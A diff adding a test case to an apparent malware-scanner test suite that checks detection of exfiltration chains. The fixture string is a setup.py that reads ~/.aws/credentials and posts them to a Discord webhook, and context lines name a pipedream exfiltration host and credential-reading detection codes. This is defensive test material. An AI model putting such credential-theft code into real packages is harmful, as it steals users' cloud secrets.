@@ -139,6 +139,12 @@ describe('exfiltration and attack chains', () => {
     expect(js(read + filler + send).chains).toEqual([]);
     expect(codes(js(read + filler + send))).toEqual(expect.arrayContaining(['reads_credential_files', 'discord_webhook']));
   });
+  it('a Python module is one program, not a bundle: a credential read and a webhook far apart still chain', () => {
+    const read = "t = open(os.path.expanduser('~/.aws/credentials')).read()\n";
+    const send = "requests.post('https://discord.com/api/webhooks/123/abc', data=t)\n";
+    const filler = 'unrelated = [n * 2 for n in range(3)]\n'.repeat(200);
+    expect(py({ 'setup.py': 'import os, requests\n' + read + filler + send }).chains?.length).toBe(1);
+  });
   it('an exfiltration host alone, with nothing collected, forms no chain', () => {
     expect(js("const url = 'https://abc.m.pipedream.net';").chains).toEqual([]);
   });
